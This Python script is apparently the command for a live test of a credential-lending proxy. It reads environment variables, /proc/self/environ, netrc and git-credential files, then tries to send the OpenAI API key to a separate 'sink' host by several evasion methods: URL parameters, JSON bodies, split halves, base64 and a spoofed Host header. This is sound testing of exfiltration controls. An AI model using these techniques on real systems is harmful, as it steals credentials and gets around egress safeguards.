"""The command of `test_lending_live`'s run: it reports what it holds and what each client got.

argv: the code host's base URL, the sink's, the OpenAI host's (reached through the forward proxy).
"""

import base64
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import anthropic
import httpx
import openai
import requests

out = {
    "env": dict(os.environ),
    "proc_environ": Path("/proc/self/environ").read_bytes().decode(errors="replace"),
}
files = {}
for name in ("NETRC",):
    files[name] = Path(os.environ[name]).read_text()
cred = os.environ["GIT_CONFIG_VALUE_" + str(int(os.environ["GIT_CONFIG_COUNT"]) - 1)].split("--file=", 1)[1]
files["git-credentials"] = Path(cred).read_text()
out["files"] = files
chat = openai.OpenAI().chat.completions.create(
    model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}]
)
out["openai"] = chat.choices[0].message.content
msg = anthropic.Anthropic().messages.create(
    model="claude-sonnet-4-5", max_tokens=10, messages=[{"role": "user", "content": "hi"}]
)
out["anthropic"] = msg.content[0].text
code, sink, api = sys.argv[1], sys.argv[2], sys.argv[3]
gh = os.environ["GH_TOKEN"]
curl = subprocess.run(
    [
        "curl",
        "-sS",
        "-o",
        "-",
        "-w",
        " %{http_code}",
        "-H",
        "Authorization: Bearer " + gh,
        code + "/api/user",
    ],
    capture_output=True,
    text=True,
)
out["curl"] = curl.stdout + curl.stderr
out["requests_netrc"] = requests.get(code + "/api/user", timeout=30).status_code
clone = os.path.join(tempfile.mkdtemp(), "clone")
git_env = {**os.environ, "GIT_SSL_CAINFO": os.environ["SSL_CERT_FILE"], "GIT_TERMINAL_PROMPT": "0"}
g = subprocess.run(
    ["git", "clone", "-q", code + "/repo.git", clone], capture_output=True, text=True, env=git_env
)
out["git"] = [
    g.returncode,
    g.stderr[-500:],
    Path(clone, "README").read_text() if g.returncode == 0 else "",
]
p = os.environ["OPENAI_API_KEY"]
half = len(p) // 2
attempts = {
    "other host": ("POST", sink + "/collect", {"authorization": "Bearer " + p}, b""),
    "in a URL": ("GET", sink + "/collect?next=" + p, {}, b""),
    "in a body": (
        "POST",
        sink + "/collect",
        {"content-type": "application/json"},
        json.dumps({"k": p}).encode(),
    ),
    "another header": ("GET", api + "/v1/models", {"x-leak": p}, b""),
    "split 1": ("POST", sink + "/a", {}, p[:half].encode()),
    "split 2": ("POST", sink + "/b", {}, p[half:].encode()),
    "base64 body": ("POST", sink + "/c", {}, base64.b64encode(("key=" + p).encode())),
    "its host named, another reached": (
        "POST",
        sink + "/d",
        {"host": api.split("//", 1)[1], "authorization": "Bearer " + p},
        b"",
    ),
    "body to its own host": (
        "POST",
        api + "/v1/chat/completions",
        {"authorization": "Bearer " + p},
        json.dumps({"model": "m", "messages": [{"role": "user", "content": p}]}).encode(),
    ),
}
got = {}
with httpx.Client(timeout=30) as client:
    for label, (method, url, headers, body) in attempts.items():
        r = client.request(method, url, headers=headers, content=body)
        got[label] = [r.status_code, r.headers.get("x-flightlog-refused", "")]
out["attempts"] = got
print(json.dumps(out))
